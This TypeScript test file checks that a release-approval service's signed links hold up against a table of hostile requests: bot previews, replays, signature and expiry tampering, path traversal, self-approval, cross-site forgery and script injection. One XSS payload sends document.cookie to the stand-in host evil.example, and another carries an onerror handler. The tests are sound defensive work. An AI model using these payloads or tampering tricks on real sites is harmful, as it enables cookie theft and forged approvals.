import { SendTaskFailureCommand, SendTaskSuccessCommand, SFNClient } from '@aws-sdk/client-sfn';
import { mockClient } from 'aws-sdk-client-mock';
import { approvalDeps } from '../../../lambdas/domain/approvals/deps';
import { approvalLink } from '../../../lambdas/domain/approvals/links';
import { readApprovalRecord } from '../../../lambdas/domain/approvals/store';
import { app } from '../../../lambdas/http/app';
import { handler as requestApprovalHandler } from '../../../lambdas/steps/request-approval';
import type { Release } from '../../../lambdas/shared/release';
import {
  freshProjectId,
  makePayload,
  makeRelease,
  PUBLIC_URL,
  SECRETS,
  startHarness,
  type Harness,
} from '../approvals/harness';

/**
 * The approval links' attack surface as one table. Each row opens a fresh approval (the real request-approval
 * step, real DynamoDB via dynalite, Step Functions mocked), makes one hostile request against the personal
 * links through the real hono app, and checks the status, that Step Functions heard nothing (no
 * SendTaskSuccess / SendTaskFailure) and that no vote beyond the legitimate ones was recorded.
 */

const sfnMock = mockClient(SFNClient);
let h: Harness;
let n = 100;

beforeAll(async () => {
  h = await startHarness();
});
afterAll(async () => {
  await h.close();
});
beforeEach(() => {
  sfnMock.reset();
  sfnMock.on(SendTaskSuccessCommand).resolves({});
  sfnMock.on(SendTaskFailureCommand).resolves({});
});

const SAME_ORIGIN = { 'sec-fetch-site': 'same-origin', origin: 'null' };

interface Opened {
  approvalId: string;
  /** Path + query of each approver's personal link. */
  links: Record<string, string>;
  release: Release;
}

async function open(environment: string, overrides: Partial<Release> = {}): Promise<Opened> {
  const release = makeRelease((n += 1), freshProjectId(), overrides);
  const result = await requestApprovalHandler(makePayload(release, environment));
  const record = await readApprovalRecord(approvalDeps(), result.approvalId);
  const links: Record<string, string> = {};
  for (const approver of ['alice', 'bob', 'carol']) {
    links[approver] = approvalLink(SECRETS.linkSigningKey, {
      approvalId: result.approvalId,
      approver,
      expiresAt: record!.expiresAt,
    }).slice(PUBLIC_URL.length);
  }
  return { approvalId: result.approvalId, links, release };
}

async function get(path: string, headers: Record<string, string> = {}, method = 'GET') {
  const res = await app.request(path, { method, headers });
  return { status: res.status, body: await res.text() };
}

async function post(
  path: string,
  fields: Record<string, string>,
  headers: Record<string, string> = SAME_ORIGIN,
  contentType = 'application/x-www-form-urlencoded',
) {
  const res = await app.request(path, {
    method: 'POST',
    body: contentType.includes('json') ? JSON.stringify(fields) : new URLSearchParams(fields).toString(),
    headers: { 'content-type': contentType, ...headers },
  });
  return { status: res.status, body: await res.text() };
}

const approve = (path: string, headers?: Record<string, string>) =>
  post(path, { decision: 'approve', reason: 'ok' }, headers);
const param = (path: string, name: string) => new URL(path, PUBLIC_URL).searchParams.get(name) ?? '';
const flip = (s: string) => (s[0] === 'A' ? 'B' : 'A') + s.slice(1);

interface Row {
  attack: string;
  environment: 'staging' | 'production';
  release?: Partial<Release>;
  /** Legitimate votes made first (approver names). */
  before?: string[];
  attempt: (a: Opened, other: () => Promise<Opened>) => Promise<{ status: number; body: string }>;
  status: number;
  /** Something the answer must say (or, for injection rows, must contain escaped). */
  says?: RegExp;
  /** Something the answer must never contain. */
  never?: RegExp;
}

const EVIL_TITLE =
  '"><svg onload=alert(1)><script>document.location="//evil.example/"+document.cookie</script>';

const CORPUS: Row[] = [
  // --- Link previews: GET/HEAD never decide ---
  {
    attack: 'Slack link preview (Slackbot GET)',
    environment: 'staging',
    attempt: (a) =>
      get(a.links.alice, { 'user-agent': 'Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)' }),
    status: 200,
    says: /name="decision" value="approve"/,
  },
  {
    attack: 'Microsoft Teams / Outlook SafeLinks preview (HEAD)',
    environment: 'production',
    attempt: (a) =>
      get(
        a.links.bob,
        { 'user-agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) SkypeUriPreview Preview/0.5 SafeLinks' },
        'HEAD',
      ),
    status: 200,
  },
  {
    attack: 'Discord/Twitter unfurl bots (GET)',
    environment: 'staging',
    attempt: async (a) => {
      await get(a.links.bob, {
        'user-agent': 'Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)',
      });
      return get(a.links.alice, { 'user-agent': 'Twitterbot/1.0' });
    },
    status: 200,
  },
  {
    attack: 'a bot that follows the form with GET ?decision=approve',
    environment: 'staging',
    attempt: (a) => get(`${a.links.alice}&decision=approve`, { 'user-agent': 'facebookexternalhit/1.1' }),
    status: 200,
  },
  // --- Replays ---
  {
    attack: 'replayed approval POST (same approver twice toward a quorum of two)',
    environment: 'production',
    before: ['alice'],
    attempt: (a) => approve(a.links.alice),
    status: 409,
    says: /already voted &quot;approve&quot;.*each approver votes once/,
  },
  {
    attack: 'replayed approval with the decision flipped to reject',
    environment: 'production',
    before: ['alice'],
    attempt: (a) => post(a.links.alice, { decision: 'reject', reason: 'changed my mind (replayed)' }),
    status: 409,
    says: /already voted/,
  },
  // --- Tampering ---
  {
    attack: 'tampered sig',
    environment: 'staging',
    attempt: (a) => approve(a.links.alice.replace(/sig=([^&]+)/, (_m, s: string) => `sig=${flip(s)}`)),
    status: 403,
    says: /signature mismatch/,
  },
  {
    attack: 'exp extended by a day (same sig)',
    environment: 'staging',
    attempt: (a) =>
      approve(a.links.alice.replace(/exp=(\d+)/, (_m, e: string) => `exp=${Number(e) + 86400}`)),
    status: 403,
  },
  {
    attack: 'exp moved one second earlier (same sig)',
    environment: 'staging',
    attempt: (a) => approve(a.links.alice.replace(/exp=(\d+)/, (_m, e: string) => `exp=${Number(e) - 1}`)),
    status: 403,
  },
  {
    attack: 'approver swapped in the path (Alice’s sig on Bob’s URL)',
    environment: 'production',
    attempt: (a) =>
      approve(
        `/approvals/${a.approvalId}/bob?exp=${param(a.links.alice, 'exp')}&sig=${param(a.links.alice, 'sig')}`,
      ),
    status: 403,
  },
  {
    attack: 'approver in another case (/ALICE)',
    environment: 'staging',
    attempt: (a) => approve(a.links.alice.replace('/alice?', '/ALICE?')),
    status: 403,
  },
  {
    attack: 'no sig',
    environment: 'staging',
    attempt: (a) => approve(a.links.alice.replace(/&sig=[^&]+/, '')),
    status: 403,
  },
  {
    attack: 'sig with characters outside base64url',
    environment: 'staging',
    attempt: (a) => approve(a.links.alice.replace(/sig=[^&]+/, 'sig=%3Cscript%3E')),
    status: 403,
  },
  {
    attack: 'two sig parameters (a valid one second)',
    environment: 'staging',
    attempt: (a) =>
      approve(a.links.alice.replace(/sig=([^&]+)/, (_m, s: string) => `sig=${flip(s)}&sig=${s}`)),
    status: 403,
  },
  {
    attack: 'cross-approval link (a valid link of approval A used on approval B)',
    environment: 'staging',
    attempt: async (a, other) => {
      const b = await other();
      return approve(
        `/approvals/${b.approvalId}/alice?exp=${param(a.links.alice, 'exp')}&sig=${param(a.links.alice, 'sig')}`,
      );
    },
    status: 403,
  },
  {
    attack: 'correctly signed link of someone outside the policy (dave)',
    environment: 'production',
    attempt: async (a) => {
      const record = await readApprovalRecord(approvalDeps(), a.approvalId);
      const dave = approvalLink(SECRETS.linkSigningKey, {
        approvalId: a.approvalId,
        approver: 'dave',
        expiresAt: record!.expiresAt,
      }).slice(PUBLIC_URL.length);
      return approve(dave);
    },
    status: 403,
    says: /is not an approver/,
  },
  {
    attack: 'approval id with path traversal',
    environment: 'staging',
    attempt: (a) =>
      approve(a.links.alice.replace(`/approvals/${a.approvalId}/`, `/approvals/..%2F..%2F${a.approvalId}/`)),
    status: 403,
  },
  // --- Self-approval ---
  {
    attack: 'self-approval by GitLab username (production forbids it)',
    environment: 'production',
    release: { triggeredBy: { username: 'alice', name: 'Alice A.' } },
    attempt: (a) => approve(a.links.alice),
    status: 403,
    says: /does not allow approving one&#39;s own release/,
  },
  {
    attack: 'self-approval by e-mail in another case',
    environment: 'production',
    release: { triggeredBy: { username: 'robert', email: 'BOB@example.COM' } },
    attempt: (a) => approve(a.links.bob),
    status: 403,
    says: /own release/,
  },
  // --- Request forgery ---
  {
    attack: 'cross-site form POST (Sec-Fetch-Site: cross-site)',
    environment: 'staging',
    attempt: (a) => approve(a.links.alice, { 'sec-fetch-site': 'cross-site' }),
    status: 403,
  },
  {
    attack: 'POST with a foreign Origin',
    environment: 'staging',
    attempt: (a) => approve(a.links.alice, { origin: 'https://evil.example' }),
    status: 403,
  },
  {
    attack: 'JSON POST (fetch from a script) instead of the form',
    environment: 'staging',
    attempt: (a) => post(a.links.alice, { decision: 'approve' }, SAME_ORIGIN, 'application/json'),
    status: 415,
  },
  {
    attack: 'unknown decision value',
    environment: 'staging',
    attempt: (a) => post(a.links.alice, { decision: 'approve ' }),
    status: 400,
  },
  // --- Injection: rendered escaped, never as markup ---
  {
    attack: 'script/SVG in the commit title, rendered on the confirm page',
    environment: 'staging',
    release: { commit: { sha: 'c0ffee'.repeat(6) + 'c0ff', title: EVIL_TITLE } },
    attempt: (a) => get(a.links.alice),
    status: 200,
    says: /&lt;svg onload=alert\(1\)&gt;&lt;script&gt;/,
    never: /<svg|<script>document|onload=alert\(1\)>/,
  },
  {
    attack: 'approver segment carrying markup (/approvals/<id>/<script>)',
    environment: 'staging',
    attempt: (a) => get(`/approvals/${a.approvalId}/%3Cscript%3Ealert(1)%3C%2Fscript%3E?exp=1&sig=AAAA`),
    status: 403,
    never: /<script>alert/,
  },
];

describe('hostile approvals corpus: every variant answers its status and decides nothing', () => {
  it('has one row per attack', () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(20);
    expect(new Set(CORPUS.map((r) => r.attack)).size).toBe(CORPUS.length);
  });

  it.each(CORPUS.map((row) => [row.attack, row] as const))('%s', async (_name, row) => {
    const a = await open(row.environment, row.release);
    for (const approver of row.before ?? []) expect((await approve(a.links[approver])).status).toBe(200);
    const votesBefore = (await readApprovalRecord(approvalDeps(), a.approvalId))?.votes;

    const answer = await row.attempt(a, () => open(row.environment));

    expect(answer.status).toBe(row.status);
    if (row.says) expect(answer.body).toMatch(row.says);
    if (row.never) expect(answer.body).not.toMatch(row.never);
    expect(sfnMock.commandCalls(SendTaskSuccessCommand)).toHaveLength(0);
    expect(sfnMock.commandCalls(SendTaskFailureCommand)).toHaveLength(0);
    const after = await readApprovalRecord(approvalDeps(), a.approvalId);
    expect(after?.votes).toEqual(votesBefore);
    expect(after?.status).toBe('OPEN');
    expect(Object.keys(after?.votes ?? {})).toEqual(row.before ?? []);
  });

  it('a reason carrying markup is shown escaped after a real vote (the one row that decides)', async () => {
    const a = await open('staging');
    const res = await post(a.links.alice, {
      decision: 'reject',
      reason: '</textarea><img src=x onerror=alert(document.domain)><script>steal()</script>',
    });
    expect(res.status).toBe(200);
    expect(res.body).not.toMatch(/<img src=x|<script>steal/);
    expect(res.body).toContain('&lt;/textarea&gt;&lt;img src=x onerror=alert(document.domain)&gt;');
    // The rejection reaches Step Functions as data, with the reason in the cause.
    const failure = sfnMock.commandCalls(SendTaskFailureCommand);
    expect(failure).toHaveLength(1);
    expect(failure[0].args[0].input.cause).toContain('<script>steal()</script>');
  });
});
